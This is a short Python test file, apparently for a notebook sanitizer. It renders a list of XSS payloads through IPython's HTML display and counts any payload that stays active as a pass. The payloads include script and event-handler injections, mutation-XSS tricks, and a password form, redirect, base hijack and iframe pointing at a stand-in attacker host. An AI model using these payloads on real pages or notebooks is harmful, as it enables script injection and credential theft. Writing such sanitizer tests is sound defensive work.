"""Show HTML with scripts in every disguise. Success: any of it is still active in the notebook or on a page."""

CELL = '''
from IPython.display import HTML, IFrame, display

for text in ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<a href='java\\nscript:alert(1)'>x</a>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
             "<object data='data:text/html,<script>alert(1)</script>'></object>", "<form action='http://evil.example'><input name=password></form>", "<style>@import 'http://evil.example'</style>",
             "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<meta http-equiv=refresh content='0;url=http://evil.example'>", "<base href='http://evil.example'>",
             "<b style='position:fixed;top:0'>100 points</b>", "<scr<script>ipt>alert(1)</script>", "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
             "<img src='http://evil.example/pixel.png'>", "<video src=x onerror=alert(1)>", "<details ontoggle=alert(1) open>", "<template><script>alert(1)</script></template>"):
    display(HTML(text))
display(IFrame("http://evil.example", 100, 100))
'''
